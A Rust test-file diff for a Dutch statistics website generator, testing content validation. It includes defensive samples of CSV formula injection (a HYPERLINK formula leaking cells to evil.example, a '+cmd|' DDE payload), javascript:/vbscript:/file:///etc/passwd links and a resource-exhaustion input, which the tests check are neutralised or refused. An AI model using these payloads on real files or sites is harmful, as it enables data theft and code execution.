@@ -184,7 +184,8 @@ fn a_stated_change_since_a_later_year() {
             "content/years/2017/figures.yaml",
             "grooming:\n  value: 43\n  stated_change: {percent: 5, since: 2018}\n",
         ),
-        &["content/years/2017/figures.yaml:1", "not before 2017"],
+        // At `since` itself (was the figure's key, line 1, before places had columns).
+        &["content/years/2017/figures.yaml:3:38", "not before 2017"],
     );
 }
 
@@ -495,14 +496,6 @@ fn a_publication_slug_with_spaces() {
 }
 
 #[test]
-fn a_page_slug_taken_by_the_site() {
-    assert_fails(
-        write("content/pages/cijfers.md", "---\ntitle: Cijfers\n---\n"),
-        &["content/pages/cijfers.md", "taken by the site itself"],
-    );
-}
-
-#[test]
 fn year_folder_0000() {
     assert_fails(
         write("content/years/0000/figures.yaml", "grooming: 1\n"),
@@ -587,4 +580,653 @@ fn a_shortcode_with_an_unknown_argument() {
             "`figure` has no argument `jaar`",
         ],
     );
+}
+
+// -- control characters --------------------------------------------------------------------
+// Refused wherever they are, typed or written as an escape: invisible, and they make the
+// Atom feed ill-formed XML. Each is named at its own line and column.
+
+#[test]
+fn yaml_escapes_for_control_characters_in_the_site_title() {
+    assert_fails(
+        |s| {
+            s.replace(
+                "content/site.yaml",
+                "title: Testrapport",
+                r#"title: "Test\0rap\x07port\e""#,
+            )
+        },
+        &[
+            "content/site.yaml:1:13: `\\0` in this quoted text is an invisible control character (U+0000)",
+            "content/site.yaml:1:18: `\\x07` in this quoted text is an invisible control character (U+0007)",
+            "content/site.yaml:1:26: `\\e` in this quoted text is an invisible control character (U+001B)",
+            "hint: remove `\\x07`",
+        ],
+    );
+}
+
+#[test]
+fn a_typed_control_character_in_metrics_yaml() {
+    assert_fails(
+        |s| {
+            s.replace(
+                "content/metrics.yaml",
+                "label: Grooming",
+                "label: Groo\u{1b}[2Jming",
+            )
+        },
+        &[
+            "content/metrics.yaml:14:14: an invisible control character (U+001B) is in the text",
+            "hint: delete it",
+        ],
+    );
+}
+
+#[test]
+fn control_characters_in_figures_yaml_are_all_reported() {
+    assert_fails(
+        write(
+            "content/years/2017/figures.yaml",
+            "grooming: {value: 43, source: \"cijfers\\a\"}\nsexting: {value: 135, note: \"a\\u0008b\"}\n",
+        ),
+        &[
+            "content/years/2017/figures.yaml:1:39: `\\a` in this quoted text is an invisible control character (U+0007)",
+            "content/years/2017/figures.yaml:2:31: `\\u0008` in this quoted text",
+        ],
+    );
+}
+
+#[test]
+fn control_characters_in_a_report_front_matter_and_body() {
+    assert_fails(
+        write(
+            "content/years/2017/report.md",
+            "---\ntitle: Jaarverslag\ndate: 2018\nsummary: \"Kort\\x1b\"\n---\nTekst\u{7} met &#7; en &#x1B;.\n",
+        ),
+        &[
+            "content/years/2017/report.md:4:15: `\\x1b` in this quoted text is an invisible control character (U+001B)",
+            "content/years/2017/report.md:6:6: an invisible control character (U+0007) is in the text",
+            "content/years/2017/report.md:6:12: `&#7;` is an invisible control character (U+0007)",
+            "content/years/2017/report.md:6:20: `&#x1B;` is an invisible control character (U+001B)",
+        ],
+    );
+}
+
+#[test]
+fn noncharacters_and_c1_controls_are_refused() {
+    assert_fails(
+        |s| {
+            s.write(
+                "content/publications/ffff.md",
+                "---\ntitle: \"Niet\\uFFFE\"\ndate: 2021\nkind: persbericht\n---\nTekst\u{ffff}.\n",
+            );
+            // U+0092: a Windows apostrophe read in the wrong encoding.
+            s.write("content/pages/plak.md", "---\ntitle: Plak\n---\nIt\u{92}s.\n");
+        },
+        &[
+            "content/publications/ffff.md:2:13: `\\uFFFE` in this quoted text is a code that is not a character (U+FFFE)",
+            "content/publications/ffff.md:6:6: a code that is not a character (U+FFFF) is in the text",
+            "content/pages/plak.md:4:3: an invisible control character (U+0092) is in the text",
+        ],
+    );
+}
+
+/// Awkward text that is allowed: XML specials, quotes, emoji, right-to-left marks and
+/// embeddings, a line separator (U+2028), a tab; escaped or typed.
+const AWKWARD: &str =
+    "Cijfers & <feiten> \"dubbel\" 'enkel' 😀 \u{200f}\u{202b}نص\u{202c} a\u{2028}b\tc";
+
+#[test]
+fn awkward_but_allowed_text_builds_and_the_feed_and_sitemap_are_well_formed() {
+    let site = TestSite::new("basic");
+    // YAML cannot hold U+2028 typed (it is a line break there): its escape is `\L`.
+    // The marks are typed into the YAML; the line separator and the tab are escapes.
+    let yaml =
+        "\"Cijfers & <feiten> \\\"dubbel\\\" 'enkel' 😀 \u{200f}\u{202b}نص\u{202c} a\\Lb\\tc\"";
+    site.replace(
+        "content/site.yaml",
+        "title: Testrapport",
+        &format!("title: {yaml}"),
+    );
+    site.replace(
+        "content/publications/persbericht-2020.md",
+        "title: Persbericht over 2020",
+        &format!("title: {yaml}"),
+    );
+    site.replace(
+        "content/publications/persbericht-2020.md",
+        "summary: De cijfers van 2020.",
+        "summary: 'Samenvatting & <meer> \"zo\" \u{200f}rtl 😀'",
+    );
+    site.replace(
+        "content/publications/persbericht-2020.md",
+        "Weglopers:",
+        &format!("{AWKWARD} &amp; &#x2028; &#169;\n\nWeglopers:"),
+    );
+    site.build_ok();
+
+    let atom = site.read("public/atom.xml");
+    let doc = roxmltree::Document::parse(&atom).unwrap_or_else(|e| panic!("{e}\n{atom}"));
+    let feed_title = doc
+        .root_element()
+        .children()
+        .find(|n| n.has_tag_name("title"))
+        .unwrap();
+    assert_eq!(feed_title.text(), Some(AWKWARD));
+    let entry_texts: Vec<&str> = doc
+        .descendants()
+        .filter(|n| n.has_tag_name("title") || n.has_tag_name("summary"))
+        .filter_map(|n| n.text())
+        .collect();
+    assert!(entry_texts.contains(&AWKWARD), "{entry_texts:?}");
+    assert!(
+        entry_texts.contains(&"Samenvatting & <meer> \"zo\" \u{200f}rtl 😀"),
+        "{entry_texts:?}"
+    );
+    let sitemap = site.read("public/sitemap.xml");
+    let doc = roxmltree::Document::parse(&sitemap).unwrap();
+    assert!(doc.descendants().filter(|n| n.has_tag_name("loc")).count() > 10);
+    // In the page, escaped as text.
+    let page = site.read("public/publicaties/persbericht-2020/index.html");
+    assert!(page.contains("Cijfers &amp; &lt;feiten&gt;"), "{page}");
+    assert!(!page.contains("<feiten>"));
+}
+
+// -- CSV cells that a spreadsheet would run ----------------------------------------------
+
+/// Every CSV file of the site, parsed: its path, its header and its rows.
+fn every_csv(site: &TestSite) -> Vec<(String, Vec<String>, Vec<Vec<String>>)> {
+    let public = site.path("public");
+    let mut files = Vec::new();
+    for entry in walkdir::WalkDir::new(&public) {
+        let entry = entry.unwrap();
+        if entry.path().extension().is_some_and(|e| e == "csv") {
+            let mut reader = csv::Reader::from_path(entry.path()).unwrap();
+            let header = reader.headers().unwrap().iter().map(String::from).collect();
+            let rows = reader
+                .records()
+                .map(|r| r.unwrap().iter().map(String::from).collect())
+                .collect();
+            let rel = entry.path().strip_prefix(&public).unwrap();
+            files.push((rel.display().to_string(), header, rows));
+        }
+    }
+    files
+}
+
+#[test]
+fn csv_cells_that_would_run_as_formulas_are_neutralised_in_every_csv() {
+    let site = TestSite::new("basic");
+    site.replace(
+        "content/metrics.yaml",
+        "label: Weglopers",
+        r#"label: '=HYPERLINK("https://evil.example/?"&A1,"klik")'"#,
+    );
+    site.replace(
+        "content/metrics.yaml",
+        "unit: nieuwe dossiers",
+        "unit: \"+cmd|' /C calc'!A0\"",
+    );
+    site.replace(
+        "content/years/2020/figures.yaml",
+        "note: Tijdens de lockdowns liepen minder jongeren weg.",
+        "note: \"-2+3\"",
+    );
+    site.replace(
+        "content/years/2019/figures.yaml",
+        "weglopers: {value: 1400, source: persbericht-2020}",
+        "weglopers: {value: 1400, source: \"@SUM(A1:A9)\", note: \"\\t=1+1\"}",
+    );
+    site.replace(
+        "content/years/2020/figures.yaml",
+        "grooming: {value: 129, source: persbericht-2020}",
+        "grooming: {value: 129, source: persbericht-2020, note: \"\\r=1+1\"}",
+    );
+    site.build_ok();
+
+    let files = every_csv(&site);
+    assert!(
+        files.len() >= 10,
+        "{:?}",
+        files.iter().map(|f| &f.0).collect::<Vec<_>>()
+    );
+    let numeric = [
+        "year",
+        "value",
+        "stated_change_percent",
+        "stated_change_since",
+    ];
+    let mut negative_numbers = 0;
+    for (path, header, rows) in &files {
+        // Chart files: `year` and one column of values per metric.
+        let is_number = |column: usize| {
+            path.starts_with("grafieken/") || numeric.contains(&header[column].as_str())
+        };
+        for row in rows {
+            for (column, cell) in row.iter().enumerate() {
+                if is_number(column) {
+                    assert!(
+                        cell.is_empty() || cell.parse::<f64>().is_ok(),
+                        "{path}: {cell:?} is not a number"
+                    );
+                    negative_numbers += usize::from(cell.starts_with('-'));
+                } else {
+                    assert!(
+                        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                        "{path}: {cell:?} would run as a formula"
+                    );
+                }
+            }
+        }
+    }
+    // The two negative stated changes (-25, -30) stay numbers, in figures.csv and in
+    // their metric's file.
+    assert_eq!(negative_numbers, 4);
+
+    let (_, header, rows) = files.iter().find(|f| f.0 == "data/figures.csv").unwrap();
+    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let row = rows
+        .iter()
+        .find(|r| r[column("year")] == "2020" && r[column("metric")] == "weglopers")
+        .unwrap();
+    assert_eq!(
+        row[column("label")],
+        r#"'=HYPERLINK("https://evil.example/?"&A1,"klik")"#
+    );
+    assert_eq!(row[column("unit")], "'+cmd|' /C calc'!A0");
+    assert_eq!(row[column("note")], "'-2+3");
+    assert_eq!(row[column("stated_change_percent")], "-25");
+    let row = rows
+        .iter()
+        .find(|r| r[column("year")] == "2019" && r[column("metric")] == "weglopers")
+        .unwrap();
+    assert_eq!(row[column("source")], "'@SUM(A1:A9)");
+    assert_eq!(row[column("note")], "'\t=1+1");
+    let row = rows
+        .iter()
+        .find(|r| r[column("year")] == "2020" && r[column("metric")] == "grooming")
+        .unwrap();
+    assert_eq!(row[column("note")], "'\r=1+1");
+    // JSON is not opened by spreadsheets: the label as written.
+    let json: serde_json::Value =
+        serde_json::from_str(&site.read("public/data/figures.json")).unwrap();
+    assert!(json
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|r| r["label"] == r#"=HYPERLINK("https://evil.example/?"&A1,"klik")"#));
+}
+
+// -- numbers -------------------------------------------------------------------------------
+
+fn stated_change(change: &'static str) -> impl FnOnce(&TestSite) {
+    move |s: &TestSite| {
+        s.replace(
+            "content/years/2020/figures.yaml",
+            "stated_change: {percent: -30, since: 2018}",
+            change,
+        )
+    }
+}
+
+#[test]
+fn a_stated_change_of_1e308_percent() {
+    assert_fails(
+        stated_change("stated_change: {percent: 1e308, since: 2018}"),
+        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change (1e308%) is implausibly large"],
+    );
+}
+
+#[test]
+fn a_stated_change_below_minus_100_percent() {
+    assert_fails(
+        stated_change("stated_change: {percent: -250, since: 2018}"),
+        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change is -250%, but nothing can fall by more than 100%"],
+    );
+}
+
+#[test]
+fn a_stated_change_that_is_not_a_number() {
+    assert_fails(
+        stated_change("stated_change: {percent: .nan, since: 2018}"),
+        &["content/years/2020/figures.yaml:8:28: `ontvoeringen`: the stated change is not a number"],
+    );
+}
+
+#[test]
+fn a_stated_change_since_minus_5() {
+    assert_fails(
+        stated_change("stated_change: {percent: -30, since: -5}"),
+        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since -5, which is not a year"],
+    );
+}
+
+#[test]
+fn a_stated_change_since_the_year_1000() {
+    assert_fails(
+        stated_change("stated_change: {percent: -30, since: 1000}"),
+        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since 1000, which is not a year"],
+    );
+}
+
+#[test]
+fn a_stated_change_since_its_own_year_is_placed() {
+    assert_fails(
+        stated_change("stated_change: {percent: -30, since: 2020}"),
+        &["content/years/2020/figures.yaml:8:40: `ontvoeringen`: the stated change is since 2020, which is not before 2020"],
+    );
+}
+
+#[test]
+fn an_integer_above_2_to_the_53() {
+    // Read as a 64-bit float it is 9007199254740992: it would be published one less.
+    assert_fails(
+        write(
+            "content/years/2017/figures.yaml",
+            "sexting: 135\ngrooming:\n  value: 9007199254740993\n",
+        ),
+        &["content/years/2017/figures.yaml:3:10: `grooming` is implausibly large (9007199254740993)"],
+    );
+}
+
+#[test]
+fn the_largest_exact_integer_is_published_exactly() {
+    let site = TestSite::new("basic");
+    site.write(
+        "content/years/2019/figures.yaml",
+        "weglopers: {value: 1400, source: persbericht-2020}\nontvoeringen: {value: 200, source: persbericht-2020}\ngrooming: 9007199254740991\n",
+    );
+    site.build_ok();
+    assert!(site
+        .read("public/data/figures.csv")
+        .contains("\n2019,grooming,Grooming,online,dossiers,9007199254740991,"));
+    assert!(site
+        .read("public/data/figures.json")
+        .contains("\"value\": 9007199254740991,"));
+    assert!(site
+        .read("public/grafieken/grooming.csv")
+        .contains("\n2019,9007199254740991\n"));
+    assert!(site
+        .page("cijfers/grooming/index.html")
+        .contains("9.007.199.254.740.991"));
+}
+
+#[test]
+fn minus_zero_is_published_as_zero() {
+    let site = TestSite::new("basic");
+    site.write(
+        "content/years/2019/figures.yaml",
+        "weglopers: {value: 1400, source: persbericht-2020}\nontvoeringen: {value: 200, source: persbericht-2020}\nsexting: -0.0\ngrooming: -0\n",
+    );
+    site.build_ok();
+    for (path, _, rows) in every_csv(&site) {
+        for row in rows {
+            assert!(!row.iter().any(|c| c == "-0"), "{path}: {row:?}");
+        }
+    }
+    let csv = site.read("public/data/figures.csv");
+    assert!(
+        csv.contains("\n2019,sexting,Sexting,online,dossiers,0,"),
+        "{csv}"
+    );
+    assert!(site
+        .read("public/grafieken/thema-online-1.csv")
+        .contains("\n2019,0,0,\n"));
+    let json = site.read("public/data/figures.json");
+    assert!(!json.contains("-0"), "{json}");
+    let page = site.page("cijfers/sexting/index.html");
+    assert!(page.contains("2019</th><td>0</td>"), "{page}");
+    assert!(
+        !page.contains("\u{2212}0<") && !page.contains(">-0<"),
+        "{page}"
+    );
+}
+
+#[test]
+fn page_slugs_that_are_section_words() {
+    assert_fails(
+        |s| {
+            for slug in ["cijfers", "themas", "publicaties"] {
+                s.write(&format!("content/pages/{slug}.md"), PAGE);
+            }
+        },
+        &[
+            "content/pages/cijfers.md: /cijfers/ is the address of this page and also of the Dutch list of figures at the URL word `cijfers` (built in)",
+            "content/pages/themas.md: /themas/ is the address of this page and also of the Dutch list of themes at the URL word `themas` (built in)",
+            "content/pages/publicaties.md: /publicaties/ is the address of this page and also of the Dutch list of publications at the URL word `publicaties` (built in)",
+            "hint: rename content/pages/cijfers.md\n",
+        ],
+    );
+}
+
+#[test]
+fn page_slugs_in_the_folders_the_site_fills() {
+    assert_fails(
+        |s| {
+            s.write("content/pages/data.md", PAGE);
+            s.write("content/pages/grafieken.md", PAGE);
+        },
+        &[
+            "content/pages/data.md: /data/ is the address of this page, in the folder /data/, which the site fills with the open data",
+            "content/pages/grafieken.md: /grafieken/ is the address of this page, in the folder /grafieken/, which the site fills with the Dutch charts at the URL word `grafieken`",
+        ],
+    );
+}
+
+#[test]
+fn page_slugs_that_are_years() {
+    assert_fails(
+        |s| {
+            for year in ["2020", "2019", "2030"] {
+                s.write(&format!("content/pages/{year}.md"), PAGE);
+            }
+        },
+        &[
+            // A year with a report, a year with figures only, a year still to come.
+            "content/pages/2020.md: /2020/ is the address of this page and also of the Dutch report of 2020 (content/years/2020/report.md)",
+            "content/pages/2019.md: /2019/ is the address of this page and also of the Dutch page of 2019 (content/years/2019/figures.yaml)",
+            "content/pages/2030.md: the page slug `2030` looks like a year",
+        ],
+    );
+}
+
+#[test]
+fn a_metric_id_that_is_the_name_of_a_theme_chart() {
+    assert_fails(
+        |s| {
+            // The new metric's `id:` is on line 39.
+            let metrics = s.read("content/metrics.yaml");
+            s.write(
+                "content/metrics.yaml",
+                format!("{metrics}- id: thema-online-1\n  label: Botsing\n  theme: online\n  unit: dossiers\n  description: Botst.\n"),
+            );
+        },
+        &[
+            "content/metrics.yaml:39: /grafieken/thema-online-1.csv is the address of the Dutch chart of metric `thema-online-1` and also of the Dutch chart 1 of theme `online` (content/site.yaml)",
+            "hint: change the metric's id (in metrics.yaml and every figures.yaml), or change the theme's id in site.yaml",
+        ],
+    );
+}
+
+#[test]
+fn static_files_at_the_addresses_of_the_sites_own_files() {
+    assert_fails(
+        |s| {
+            for name in [
+                "robots.txt",
+                "sitemap.xml",
+                "atom.xml",
+                "404.html",
+                "index.html",
+                "data/figures.csv",
+                "data/extra.csv",
+                "grafieken/eigen.svg",
+                "2017/index.html",
+                "cijfers/grooming/grooming.csv",
+                "cijfers/grooming/index.html",
+                "themas/online/index.html",
+                "publicaties/persbericht-2020/index.html",
+                "over",
+            ] {
+                s.write(&format!("static/{name}"), "x");
+            }
+        },
+        &[
+            "static/robots.txt: /robots.txt is the address of this static file and also of the site's robots.txt (built in)",
+            "static/sitemap.xml: /sitemap.xml is the address of this static file and also of the sitemap (templates/sitemap.xml of the built-in theme)",
+            "static/atom.xml: /atom.xml is the address of this static file and also of the Dutch news feed (templates/atom.xml of the built-in theme)",
+            "static/404.html: /404.html is the address of this static file and also of the Dutch page for unknown addresses (templates/404.html of the built-in theme)",
+            "static/index.html: / is the address of this static file and also of the Dutch home page (built in)",
+            "static/data/figures.csv: /data/figures.csv is the address of this static file and also of the open data (built in)",
+            "static/data/extra.csv: /data/extra.csv is the address of this static file, in the folder /data/, which the site fills with the open data (built in)",
+            "static/grafieken/eigen.svg: /grafieken/eigen.svg is the address of this static file, in the folder /grafieken/, which the site fills with the Dutch charts",
+            "static/2017/index.html: /2017/ is the address of this static file and also of the Dutch report of 2017 (content/years/2017/report.md)",
+            "static/cijfers/grooming/grooming.csv: /cijfers/grooming/grooming.csv is the address of this static file and also of the open data of metric `grooming` (content/metrics.yaml:",
+            "static/cijfers/grooming/index.html: /cijfers/grooming/ is the address of this static file and also of the Dutch page of metric `grooming` (content/metrics.yaml:",
+            "static/themas/online/index.html: /themas/online/ is the address of this static file and also of the Dutch page of theme `online` (content/site.yaml)",
+            "static/publicaties/persbericht-2020/index.html: /publicaties/persbericht-2020/ is the address of this static file and also of the Dutch publication (content/publications/persbericht-2020.md)",
+            "hint: move or rename static/publicaties/persbericht-2020/index.html, or rename content/publications/persbericht-2020.md\n",
+            "static/over: /over is the address of this static file, a file, but the Dutch page (content/pages/over.md) needs a folder there for /over/",
+            "hint: move or rename static/robots.txt\n",
+            "hint: move or rename static/over, or rename content/pages/over.md\n",
+        ],
+    );
+}
+
+/// A page with nothing to say: only its address matters.
+const PAGE: &str = "---\ntitle: Pagina\n---\nTekst.\n";
+
+/// The over page with `body` instead of its text (the body starts on line 6).
+fn over_page(body: &str) -> impl FnOnce(&TestSite) {
+    let text = format!("---\ntitle: Over ons\nsummary: Wie we zijn.\norder: 1\n---\n{body}");
+    move |s: &TestSite| s.write("content/pages/over.md", text)
+}
+
+#[test]
+fn links_with_a_scheme_that_is_not_allowed_are_refused_where_they_stand() {
+    assert_fails(
+        over_page(
+            "Zie [a](data:text/html,x) en [b](vbscript:msgbox).\n\
+             ![c](file:///etc/passwd) <JaVaScRiPt:alert(1)> [d][e]\n\
+             [f](java&#9;script:alert(1))\n\n\
+             [e]: < javascript:alert(1)>\n",
+        ),
+        &[
+            "content/pages/over.md:6:9: the link `data:text/html,x` starts with `data:`",
+            "content/pages/over.md:6:34: the link `vbscript:msgbox` starts with `vbscript:`",
+            "content/pages/over.md:7:6: the link `file:///etc/passwd` starts with `file:`",
+            "content/pages/over.md:7:27: the link `JaVaScRiPt:alert(1)` starts with `javascript:`",
+            "content/pages/over.md:8:1: the link `java\\tscript:alert(1)` starts with `javascript:`",
+            "content/pages/over.md:10:7: the link ` javascript:alert(1)` starts with `javascript:`",
+            "hint: a link may start with https://, http://, mailto: or tel:",
+        ],
+    );
+}
+
+#[test]
+fn links_with_allowed_schemes_build() {
+    let site = TestSite::new("basic");
+    over_page(
+        "[a](https://childfocus.be/) [b](HTTP://example.org/) [c](mailto:info@example.org) \
+         [d](tel:116000) [e](/cijfers/) [f](#wie) <https://example.org/x> [g][h]\n\n\
+         ## Wie\n\n[h]: https://example.org/h\n",
+    )(&site);
+    site.build_ok();
+    let page = site.page("over/index.html");
+    for href in [
+        "https://childfocus.be/",
+        "HTTP://example.org/",
+        "mailto:info@example.org",
+        "tel:116000",
+        "/rapport/cijfers/",
+        "#wie",
+        "https://example.org/x",
+        "https://example.org/h",
+    ] {
+        assert!(page.contains(&format!("href=\"{href}\"")), "{href}: {page}");
+    }
+}
+
+/// On main: 21 errors here (102 on the real site), one per page, each blamed on another
+/// file, and none on site.yaml.
+#[test]
+fn a_script_url_in_site_yaml_is_one_error_at_site_yaml() {
+    for (from, to, place) in [
+        (
+            "  url: https://example.org/",
+            "  url: javascript:alert(1)",
+            "content/site.yaml:7:8: `organisation.url`: the link `javascript:alert(1)`",
+        ),
+        (
+            "base_url: https://example.org/rapport/",
+            "base_url: \" JavaScript:alert(1)\"",
+            "content/site.yaml:3:11: `base_url`: the link ` JavaScript:alert(1)`",
+        ),
+    ] {
+        let site = TestSite::new("basic");
+        site.replace("content/site.yaml", from, to);
+        let out = site.build();
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(1), "{stderr}");
+        assert!(stderr.starts_with("1 error in the content:\n"), "{stderr}");
+        assert!(stderr.contains(place), "{place} in:\n{stderr}");
+        assert!(stderr.contains("hint: "), "{stderr}");
+        // `check` reads the site the same way.
+        let out = site.run(&["check"]);
+        let stderr = String::from_utf8_lossy(&out.stderr);
+        assert_eq!(out.status.code(), Some(1), "{stderr}");
+        assert!(stderr.contains(place), "{place} in:\n{stderr}");
+    }
+}
+
+/// On main: 3.9 MB of `>` took 18 s and 1.3 GB of memory, and made a 113 MB page.
+#[test]
+fn quotes_nested_too_deeply_are_refused() {
+    let body = format!("Tekst.\n\n{}\n", ">".repeat(3_900_000));
+    assert_fails(
+        over_page(&body),
+        &[
+            "content/pages/over.md:8:101: lists and quotes are nested more than 100 levels deep here",
+        ],
+    );
+}
+
+#[test]
+fn lists_nested_too_deeply_are_refused() {
+    // On one line, and by indentation (each line two columns deeper).
+    let mut by_indent = String::new();
+    for level in 0..1000 {
+        by_indent.push_str(&format!("{}- x\n", "  ".repeat(level)));
+    }
+    for (body, place) in [
+        (format!("{}x\n", "- ".repeat(1_000_000)), "over.md:6:201:"),
+        (format!("{}x\n", "1. ".repeat(1_000_000)), "over.md:6:301:"),
+        (by_indent, "over.md:106:201:"),
+    ] {
+        assert_fails(over_page(&body), &[place, "nested more than 100 levels"]);
+    }
+}
+
+/// On main the placeholders were two private-use characters around a number, put back
+/// into the finished HTML: typed in the text, they crashed the build (exit 101).
+#[test]
+fn placeholder_characters_next_to_a_shortcode_do_not_crash() {
+    let site = TestSite::new("basic");
+    over_page(
+        "A \u{E000}99\u{E001} B {{ figure(id=\"grooming\", year=2017) }} &#xE000;0&#xE001;\n",
+    )(&site);
+    for command in ["build", "check"] {
+        let out = site.run(&[command]);
+        assert!(
+            out.status.success(),
+            "{command}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    let page = site.page("over/index.html");
+    assert!(
+        page.contains("<p>A \u{E000}99\u{E001} B <data class=\"figuur\""),
+        "{page}"
+    );
+    assert!(page.contains("</data> \u{E000}0\u{E001}</p>"), "{page}");
 }
